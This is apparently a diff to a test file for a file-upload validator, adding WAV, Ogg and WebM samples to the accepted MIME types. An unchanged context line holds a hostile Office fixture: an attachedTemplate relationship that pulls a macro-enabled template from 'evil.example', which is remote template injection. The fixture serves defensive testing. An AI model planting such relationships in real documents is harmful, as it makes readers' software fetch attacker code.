@@ -21,6 +21,7 @@ from binhyen.vault.tests.samples import (
     picture,
     png_header,
 )
+from binhyen.vault.tests.sound_samples import opus, wav, webm
 
 REMOTE = (
     '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
@@ -38,6 +39,10 @@ ACCEPTED = {
     "audio/mpeg": MP3,
     "audio/aac": AAC,
     "audio/amr": AMR,
+    "audio/wav": wav(),
+    "audio/ogg": opus(),
+    "audio/webm": webm(),
+    "video/webm": webm(sort=1, codec=b"V_VP8"),
     "application/pdf": PDF,
     "application/msword": DOC,
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document": docx(),
